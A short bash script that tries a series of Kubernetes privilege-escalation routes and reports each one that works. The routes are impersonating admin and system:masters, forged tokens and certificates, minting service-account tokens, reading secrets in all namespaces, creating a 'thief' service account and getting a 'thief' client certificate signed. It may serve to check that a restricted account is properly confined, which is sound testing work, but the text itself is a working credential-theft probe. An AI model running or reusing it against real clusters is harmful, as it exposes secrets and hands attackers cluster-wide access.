#!/bin/bash
# Whatever works says so.
got() { "$@" && echo "GOT $*"; }
got kubectl get secrets --as=admin
got kubectl get secrets --as=system:serviceaccount:kube-system:default --as-group=system:masters
got kubectl get secrets --as-uid=1
got kubectl get secrets --token=x
got kubectl get secrets --user=admin
got kubectl get secrets --context=admin
got kubectl get secrets --client-certificate=x --client-key=y
got kubectl create token default
got kubectl create --raw /api/v1/namespaces/hostile/serviceaccounts/default/token -f /dev/null
got kubectl get secrets --all-namespaces
got kubectl create serviceaccount thief
got kubectl certificate approve x
cat <<E | kubectl create -f - && echo "GOT a certificate"
{"apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest", "metadata": {"name": "thief"}, "spec": {"request": "eA==", "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]}}
E
exit 1 # so that the record keeps what was printed
